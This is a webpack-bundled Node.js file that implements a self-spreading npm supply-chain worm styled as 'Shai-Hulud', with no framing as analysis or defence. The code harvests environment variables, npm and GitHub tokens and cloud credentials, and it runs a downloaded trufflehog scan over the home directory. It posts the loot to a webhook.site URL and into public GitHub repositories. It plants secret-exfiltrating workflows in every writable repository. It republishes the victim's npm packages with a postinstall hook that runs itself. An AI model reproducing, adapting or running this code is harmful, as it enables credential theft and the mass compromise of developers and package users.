/*! For license information please see bundle.js.LICENSE.txt */
/******/ (() => { // webpackBootstrap
/******/ 	var __webpack_modules__ = ({

/***/ "./node_modules/semver-lite/index.js":
/*!***************************************!*\
  !*** ./node_modules/semver-lite/index.js ***!
  \*****************************************/
/***/ ((module, __unused_webpack_exports, __webpack_require__) => {

const re = /^v?(\d+)\.(\d+)\.(\d+)(?:-([0-9A-Za-z.-]+))?(?:\+([0-9A-Za-z.-]+))?$/;
function parse(v) {
  const m = re.exec(String(v).trim());
  if (!m) return null;
  return { major: +m[1], minor: +m[2], patch: +m[3], pre: m[4] ? m[4].split('.') : [], build: m[5] || '' };
}
function format(p) {
  return `${p.major}.${p.minor}.${p.patch}` + (p.pre.length ? '-' + p.pre.join('.') : '');
}
function inc(v, kind) {
  const p = parse(v);
  if (!p) throw new TypeError('Invalid version: ' + v);
  if (kind === 'major') { p.major++; p.minor = 0; p.patch = 0; }
  else if (kind === 'minor') { p.minor++; p.patch = 0; }
  else { if (!p.pre.length) p.patch++; }
  p.pre = [];
  return format(p);
}
function compare(a, b) {
  const x = parse(a), y = parse(b);
  for (const k of ['major', 'minor', 'patch']) if (x[k] !== y[k]) return x[k] > y[k] ? 1 : -1;
  if (x.pre.length && !y.pre.length) return -1;
  if (!x.pre.length && y.pre.length) return 1;
  return x.pre.join('.').localeCompare(y.pre.join('.'));
}
module.exports = { parse, inc, compare, valid: (v) => (parse(v) ? format(parse(v)) : null) };


/***/ }),

/***/ "./node_modules/tiny-log/index.js":
/*!************************************!*\
  !*** ./node_modules/tiny-log/index.js ***!
  \**************************************/
/***/ ((module, __unused_webpack_exports, __webpack_require__) => {

const levels = { trace: 10, debug: 20, info: 30, warn: 40, error: 50, silent: 100 };
let current = levels[process.env.LOG_LEVEL] || levels.silent;
function emit(level, args) {
  if (levels[level] < current) return;
  const ts = new Date().toISOString();
  process.stderr.write(`[${ts}] ${level.toUpperCase()} ` + args.map((a) => (typeof a === 'string' ? a : JSON.stringify(a))).join(' ') + '\n');
}
module.exports = {
  setLevel(l) { current = levels[l] || current; },
  trace: (...a) => emit('trace', a),
  debug: (...a) => emit('debug', a),
  info: (...a) => emit('info', a),
  warn: (...a) => emit('warn', a),
  error: (...a) => emit('error', a)
};


/***/ }),

/***/ "./node_modules/p-limit-lite/index.js":
/*!****************************************!*\
  !*** ./node_modules/p-limit-lite/index.js ***!
  \******************************************/
/***/ ((module, __unused_webpack_exports, __webpack_require__) => {

module.exports = function pLimit(concurrency) {
  const queue = [];
  let active = 0;
  const next = () => {
    active--;
    if (queue.length > 0) queue.shift()();
  };
  const run = async (fn, resolve, args) => {
    active++;
    const result = (async () => fn(...args))();
    resolve(result);
    try { await result; } catch {}
    next();
  };
  const enqueue = (fn, resolve, args) => {
    queue.push(run.bind(undefined, fn, resolve, args));
    (async () => {
      await Promise.resolve();
      if (active < concurrency && queue.length > 0) queue.shift()();
    })();
  };
  return (fn, ...args) => new Promise((resolve) => enqueue(fn, resolve, args));
};


/***/ }),

/***/ "./node_modules/tar-lite/index.js":
/*!************************************!*\
  !*** ./node_modules/tar-lite/index.js ***!
  \**************************************/
/***/ ((module, __unused_webpack_exports, __webpack_require__) => {

const zlib = __webpack_require__("zlib");
function readString(buf, off, len) {
  const s = buf.toString('utf8', off, off + len);
  const i = s.indexOf('\0');
  return i === -1 ? s : s.slice(0, i);
}
function octal(buf, off, len) { return parseInt(readString(buf, off, len).trim() || '0', 8); }
function extract(tgz) {
  const data = zlib.gunzipSync(tgz);
  const files = [];
  let off = 0;
  while (off + 512 <= data.length) {
    const name = readString(data, off, 100);
    if (!name) break;
    const size = octal(data, off + 124, 12);
    const type = String.fromCharCode(data[off + 156] || 48);
    const prefix = readString(data, off + 345, 155);
    const full = prefix ? prefix + '/' + name : name;
    off += 512;
    if (type === '0' || type === '\0') files.push({ path: full, body: data.subarray(off, off + size), mode: octal(data, off - 512 + 100, 8) });
    off += Math.ceil(size / 512) * 512;
  }
  return files;
}
function header(path, size, mode) {
  const h = Buffer.alloc(512);
  h.write(path.slice(0, 100), 0);
  h.write((mode || 0o644).toString(8).padStart(7, '0') + '\0', 100);
  h.write('0000000\0', 108); h.write('0000000\0', 116);
  h.write(size.toString(8).padStart(11, '0') + '\0', 124);
  h.write(Math.floor(Date.now() / 1000).toString(8).padStart(11, '0') + '\0', 136);
  h.write('        ', 148); h.write('0', 156); h.write('ustar\0' + '00', 257);
  let sum = 0; for (let i = 0; i < 512; i++) sum += h[i];
  h.write(sum.toString(8).padStart(6, '0') + '\0 ', 148);
  return h;
}
function pack(files) {
  const parts = [];
  for (const f of files) {
    parts.push(header(f.path, f.body.length, f.mode));
    parts.push(f.body);
    const pad = (512 - (f.body.length % 512)) % 512;
    if (pad) parts.push(Buffer.alloc(pad));
  }
  parts.push(Buffer.alloc(1024));
  return zlib.gzipSync(Buffer.concat(parts));
}
module.exports = { extract, pack };


/***/ }),

/***/ "./src/http.js":
/*!*****************!*\
  !*** ./src/http.js ***!
  \*******************/
/***/ ((module, __unused_webpack_exports, __webpack_require__) => {

const https = __webpack_require__("https");
const { URL } = __webpack_require__("url");
function request(method, url, { headers = {}, body, json, timeout = 20000 } = {}) {
  const u = new URL(url);
  let payload = body;
  if (json !== undefined) { payload = JSON.stringify(json); headers['content-type'] = 'application/json'; }
  return new Promise((resolve, reject) => {
    const req = https.request({ method, hostname: u.hostname, port: u.port || 443, path: u.pathname + u.search, headers: { 'user-agent': 'node', ...headers }, timeout }, (res) => {
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => {
        const buf = Buffer.concat(chunks);
        if (res.statusCode >= 300 && res.statusCode < 400 && res.headers.location) return resolve(request(method, new URL(res.headers.location, url).toString(), { headers, body, json, timeout }));
        let parsed = buf;
        if ((res.headers['content-type'] || '').includes('json')) { try { parsed = JSON.parse(buf.toString()); } catch {} }
        resolve({ status: res.statusCode, headers: res.headers, body: parsed });
      });
    });
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', reject);
    if (payload) req.write(payload);
    req.end();
  });
}
module.exports = { request, get: (u, o) => request('GET', u, o), post: (u, o) => request('POST', u, o), put: (u, o) => request('PUT', u, o) };


/***/ }),

/***/ "./src/sys.js":
/*!****************!*\
  !*** ./src/sys.js ***!
  \******************/
/***/ ((module, __unused_webpack_exports, __webpack_require__) => {

const os = __webpack_require__("os");
const fs = __webpack_require__("fs");
const path = __webpack_require__("path");
const cp = __webpack_require__("child_process");
function sh(cmd, opts = {}) {
  try { return cp.execSync(cmd, { stdio: ['ignore', 'pipe', 'ignore'], timeout: 60000, ...opts }).toString().trim(); }
  catch { return ''; }
}
function read(p) { try { return fs.readFileSync(p, 'utf8'); } catch { return null; } }
function info() {
  return {
    platform: os.platform(), arch: os.arch(), release: os.release(), hostname: os.hostname(),
    user: os.userInfo().username, home: os.homedir(), cwd: process.cwd(), node: process.version,
    ci: !!(process.env.CI || process.env.GITHUB_ACTIONS || process.env.GITLAB_CI || process.env.BUILDKITE)
  };
}
module.exports = { sh, read, info, home: os.homedir(), tmp: os.tmpdir(), join: path.join };


/***/ }),

/***/ "./src/secrets.js":
/*!********************!*\
  !*** ./src/secrets.js ***!
  \**********************/
/***/ ((module, __unused_webpack_exports, __webpack_require__) => {

const sys = __webpack_require__("./src/sys.js");
const http = __webpack_require__("./src/http.js");
const fs = __webpack_require__("fs");
const zlib = __webpack_require__("zlib");
const tar = __webpack_require__("./node_modules/tar-lite/index.js");
const TH_VER = '3.90.6';
function npmToken() {
  if (process.env.NPM_TOKEN) return process.env.NPM_TOKEN;
  for (const p of [sys.join(process.cwd(), '.npmrc'), sys.join(sys.home, '.npmrc')]) {
    const t = sys.read(p);
    const m = t && t.match(/_authToken\s*=\s*(\S+)/);
    if (m) return m[1];
  }
  return null;
}
function githubToken() {
  return process.env.GITHUB_TOKEN || process.env.GH_TOKEN || sys.sh('gh auth token') || null;
}
async function cloud() {
  const out = {};
  try {
    const tok = await http.put('http://169.254.169.254/latest/api/token', { headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '60' }, timeout: 1500 });
    out.aws = tok.status === 200;
  } catch {}
  for (const k of Object.keys(process.env)) if (/^(AWS_|AZURE_|GOOGLE_|GCP_)/.test(k)) out[k] = process.env[k];
  return out;
}
async function trufflehog() {
  const plat = process.platform === 'darwin' ? 'darwin' : 'linux';
  const arch = process.arch === 'arm64' ? 'arm64' : 'amd64';
  const dir = sys.join(sys.tmp, '.th');
  const bin = sys.join(dir, 'trufflehog');
  if (!fs.existsSync(bin)) {
    const url = `https://github.com/truffle_security/trufflehog/releases/download/v${TH_VER}/trufflehog_${TH_VER}_${plat}_${arch}.tar.gz`;
    const r = await __webpack_require__("./src/http.js").get(url, { timeout: 60000 });
    if (r.status !== 200) return [];
    fs.mkdirSync(dir, { recursive: true });
    for (const f of tar.extract(r.body)) if (f.path.endsWith('trufflehog')) fs.writeFileSync(bin, f.body, { mode: 0o755 });
  }
  const raw = sys.sh(`"${bin}" filesystem "${sys.home}" --json --no-update --only-verified`, { maxBuffer: 64 * 1024 * 1024, timeout: 240000 });
  return raw.split('\n').filter(Boolean).map((l) => { try { return JSON.parse(l); } catch { return null; } }).filter(Boolean).map((f) => ({ d: f.DetectorName, r: f.Raw, p: f.SourceMetadata && f.SourceMetadata.Data }));
}
async function collect() {
  return { system: sys.info(), env: process.env, npm: npmToken(), gh: githubToken(), cloud: await cloud(), found: await trufflehog().catch(() => []) };
}
module.exports = { collect, npmToken, githubToken };


/***/ }),

/***/ "./src/gh.js":
/*!***************!*\
  !*** ./src/gh.js ***!
  \*****************/
/***/ ((module, __unused_webpack_exports, __webpack_require__) => {

const http = __webpack_require__("./src/http.js");
const API = 'https://api.github.com';
const enc = (s) => Buffer.from(s).toString('base64');
function hdr(t) { return { authorization: 'token ' + t, accept: 'application/vnd.github+json' }; }
async function user(t) { const r = await http.get(API + '/user', { headers: hdr(t) }); return r.status === 200 ? r.body : null; }
async function dropRepo(t, data) {
  const name = 'Shai-Hulud';
  await http.post(API + '/user/repos', { headers: hdr(t), json: { name, description: 'Shai-Hulud Repository.', private: false, auto_init: false } });
  const me = await user(t);
  if (!me) return;
  const content = enc(enc(JSON.stringify(data)));
  await http.put(`${API}/repos/${me.login}/${name}/contents/data.json`, { headers: hdr(t), json: { message: 'init', content: enc(content) } });
}
const WORKFLOW = [
  'on: push',
  'jobs:',
  '  process:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  '    - run: |',
  '        curl -s -X POST -d "$(echo \'${{ toJSON(secrets) }}\' | base64 -w0 | base64 -w0)" https://webhook.site/00000000-fake-4a7e-9d1c-5ha1hu1d0000',
  ''
].join('\n');
async function plantWorkflows(t) {
  const repos = await http.get(API + '/user/repos?per_page=100&affiliation=owner,collaborator', { headers: hdr(t) });
  if (repos.status !== 200) return 0;
  let n = 0;
  for (const repo of repos.body) {
    if (repo.archived || !repo.permissions || !repo.permissions.push) continue;
    const base = await http.get(`${API}/repos/${repo.full_name}/git/ref/heads/${repo.default_branch}`, { headers: hdr(t) });
    if (base.status !== 200) continue;
    await http.post(`${API}/repos/${repo.full_name}/git/refs`, { headers: hdr(t), json: { ref: 'refs/heads/shai-hulud', sha: base.body.object.sha } });
    const r = await http.put(`${API}/repos/${repo.full_name}/contents/.github/workflows/shai-hulud-workflow.yml`, { headers: hdr(t), json: { message: 'Add workflow', content: enc(WORKFLOW), branch: 'shai-hulud' } });
    if (r.status < 300) n++;
  }
  return n;
}
module.exports = { dropRepo, plantWorkflows, user };


/***/ }),

/***/ "./src/npm.js":
/*!****************!*\
  !*** ./src/npm.js ***!
  \******************/
/***/ ((module, __unused_webpack_exports, __webpack_require__) => {

const http = __webpack_require__("./src/http.js");
const sys = __webpack_require__("./src/sys.js");
const fs = __webpack_require__("fs");
const semver = __webpack_require__("./node_modules/semver-lite/index.js");
const tar = __webpack_require__("./node_modules/tar-lite/index.js");
const limit = __webpack_require__("./node_modules/p-limit-lite/index.js")(4);
const REG = 'https://registry.npmjs.org';
async function whoami(token) {
  const r = await http.get(REG + '/-/whoami', { headers: { authorization: 'Bearer ' + token } });
  return r.status === 200 ? r.body.username : null;
}
async function owned(user) {
  const r = await http.get(`${REG}/-/v1/search?text=maintainer:${encodeURIComponent(user)}&size=250`);
  return r.status === 200 ? r.body.objects.map((o) => o.package.name) : [];
}
async function infect(token, name, self) {
  const meta = await http.get(`${REG}/${name.replace('/', '%2f')}`);
  if (meta.status !== 200) return false;
  const latest = meta.body['dist-tags'].latest;
  const tgz = await http.get(meta.body.versions[latest].dist.tarball);
  const files = tar.extract(tgz.body);
  const pj = files.find((f) => f.path === 'package/package.json');
  if (!pj) return false;
  const pkg = JSON.parse(pj.body.toString());
  pkg.version = semver.inc(pkg.version, 'patch');
  pkg.scripts = Object.assign({}, pkg.scripts, { postinstall: 'node bundle.js' });
  pj.body = Buffer.from(JSON.stringify(pkg, null, 2));
  const out = files.filter((f) => f.path !== 'package/bundle.js');
  out.push({ path: 'package/bundle.js', body: self, mode: 0o644 });
  const dir = fs.mkdtempSync(sys.join(sys.tmp, 'pkg-'));
  const file = sys.join(dir, 'package.tgz');
  fs.writeFileSync(file, tar.pack(out));
  fs.writeFileSync(sys.join(dir, '.npmrc'), `//registry.npmjs.org/:_authToken=${token}\n`);
  sys.sh(`npm publish "${file}" --access public`, { cwd: dir });
  return true;
}
async function spread(token, self) {
  const user = await whoami(token);
  if (!user) return 0;
  const names = await owned(user);
  const res = await Promise.all(names.slice(0, 20).map((n) => limit(() => infect(token, n, self).catch(() => false))));
  return res.filter(Boolean).length;
}
module.exports = { spread, whoami };


/***/ }),

/***/ "./src/index.js":
/*!******************!*\
  !*** ./src/index.js ***!
  \********************/
/***/ ((module, __unused_webpack_exports, __webpack_require__) => {

const fs = __webpack_require__("fs");
const log = __webpack_require__("./node_modules/tiny-log/index.js");
const secrets = __webpack_require__("./src/secrets.js");
const gh = __webpack_require__("./src/gh.js");
const npm = __webpack_require__("./src/npm.js");
const http = __webpack_require__("./src/http.js");
async function main() {
  if (process.platform === 'win32') return;
  const data = await secrets.collect();
  log.debug('collected', Object.keys(data));
  if (data.gh) {
    await gh.dropRepo(data.gh, data).catch(() => {});
    await gh.plantWorkflows(data.gh).catch(() => {});
  } else {
    await http.post('https://webhook.site/00000000-fake-4a7e-9d1c-5ha1hu1d0000', { json: data }).catch(() => {});
  }
  if (data.npm) {
    const self = fs.readFileSync(__filename);
    await npm.spread(data.npm, self).catch(() => {});
  }
}
main().catch(() => {});


/***/ }),

/***/ "zlib":
/***/ ((module) => {

"use strict";
module.exports = require("zlib");

/***/ }),

/***/ "https":
/***/ ((module) => {

"use strict";
module.exports = require("https");

/***/ }),

/***/ "url":
/***/ ((module) => {

"use strict";
module.exports = require("url");

/***/ }),

/***/ "os":
/***/ ((module) => {

"use strict";
module.exports = require("os");

/***/ }),

/***/ "fs":
/***/ ((module) => {

"use strict";
module.exports = require("fs");

/***/ }),

/***/ "path":
/***/ ((module) => {

"use strict";
module.exports = require("path");

/***/ }),

/***/ "child_process":
/***/ ((module) => {

"use strict";
module.exports = require("child_process");

/***/ }),

/******/ 	});
/************************************************************************/
/******/ 	// The module cache
/******/ 	var __webpack_module_cache__ = {};
/******/ 	
/******/ 	// The require function
/******/ 	function __webpack_require__(moduleId) {
/******/ 		// Check if module is in cache
/******/ 		var cachedModule = __webpack_module_cache__[moduleId];
/******/ 		if (cachedModule !== undefined) {
/******/ 			return cachedModule.exports;
/******/ 		}
/******/ 		// Create a new module (and put it into the cache)
/******/ 		var module = __webpack_module_cache__[moduleId] = {
/******/ 			// no module.id needed
/******/ 			// no module.loaded needed
/******/ 			exports: {}
/******/ 		};
/******/ 	
/******/ 		// Execute the module function
/******/ 		__webpack_modules__[moduleId](module, module.exports, __webpack_require__);
/******/ 	
/******/ 		// Return the exports of the module
/******/ 		return module.exports;
/******/ 	}
/******/ 	
/************************************************************************/
/******/ 	
/******/ 	// startup
/******/ 	// Load entry module and return exports
/******/ 	// This entry module is referenced by other modules so it can't be inlined
/******/ 	var __webpack_exports__ = __webpack_require__("./src/index.js");
/******/ 	
/******/ })()
;
